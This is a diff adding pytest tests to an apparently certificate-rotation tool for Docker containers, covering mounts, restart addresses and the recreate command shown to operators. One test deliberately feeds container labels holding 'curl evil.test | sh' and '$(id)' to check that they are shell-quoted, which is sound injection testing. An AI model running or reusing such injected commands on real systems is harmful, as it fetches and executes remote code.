@@ -104,6 +104,21 @@ class TestBehind:
         assert said == [Behind("web", why, "docker restart web")]
         assert set(engine.log) == {"web: cat /tls/fullchain.pem"}
 
+    def test_not_by_what_it_mounts_of_others(
+        self, live: LiveCertificate, tmp_path_factory: pytest.TempPathFactory
+    ) -> None:
+        """Nobody asked for a restart because the CA of its clients was replaced; a copy counts."""
+        elsewhere = tmp_path_factory.mktemp("ssl")
+        other, copy = elsewhere / "clients.pem", elsewhere / "copy.pem"
+        other.write_text("-----BEGIN CERTIFICATE of another CA")
+        copy.write_bytes(Path(live.live, "fullchain.pem").read_bytes())
+        engine = MemoryEngine(web(mounts=(Mount(str(other), "/clients.pem"),)))
+        engine.ended = Ended(0, b"older")
+        assert made(engine, telling=Telling()).behind_for((live,)) == []
+        engine.found["web"] = web(mounts=(Mount(str(copy), "/web.pem"),))
+        why = "has another file at /web.pem than there is now"
+        assert made(engine, telling=Telling()).behind_for((live,)) == [Behind("web", why)]
+
     def test_by_what_it_serves(self, live: LiveCertificate) -> None:
         """One that takes no connection yet shows nothing."""
         engine = MemoryEngine(web(network=HOST))
@@ -239,6 +254,24 @@ class TestWaves:
         target.revert_for((live,), shown)
         assert engine.log == ["b: HUP", "proves 192.0.2.1:2", "a: HUP", "proves 192.0.2.1:1"]
 
+    def test_one_is_proven_where_it_is_reached_after_its_restart(
+        self, live: LiveCertificate
+    ) -> None:
+        """An engine gives it another address then, and one that does not run has none at all."""
+        first, second = (Network(addresses=(f"10.0.0.{n}",)) for n in (2, 3))
+        engine = MemoryEngine(web("a", network=first, started="at first"))
+        engine.then = lambda each: replace(each, network=second, started="later")
+        proven: list[str] = []
+        probe = ContainerProbe(
+            443, "", False, lambda host, *_: proven.append(host), lambda *_: live.fingerprint
+        )
+        target = made(engine, telling=Telling(), probes=(probe,))
+        shown = target.checked_for((live,)).shown
+        target.apply_for((live,))
+        engine.found["a"] = replace(engine.found["a"], status="exited", network=Network())
+        target.revert_for((live,), shown)
+        assert proven == ["10.0.0.3"] * 2
+
     def test_one_that_cannot_be_looked_at_is_said_before(
         self, engine: MemoryEngine, live: LiveCertificate
     ) -> None:
@@ -280,6 +313,15 @@ def test_how_a_container_is_made_anew() -> None:
     labels = {**COMPOSED, "com.docker.compose.project.working_dir": "/srv/shop"}
     said = recreation(running("x", labels=labels))
     assert said == ("in /srv/shop: docker compose -p shop up -d --no-deps --force-recreate web")
+
+
+def test_no_label_adds_to_the_command_that_a_person_is_told_to_run() -> None:
+    """Labels come from images as well."""
+    labels = {**COMPOSED, "com.docker.compose.service": "web; curl evil.test | sh"}
+    said = recreation(running("x", labels=labels))
+    assert said.endswith("--force-recreate 'web; curl evil.test | sh'")
+    swarm = running("x", labels={"com.docker.swarm.service.name": "$(id)"})
+    assert recreation(swarm) == "docker service update --force '$(id)'"
 
 
 def test_the_network_of_a_container_is_read_of_what_the_engine_says() -> None:
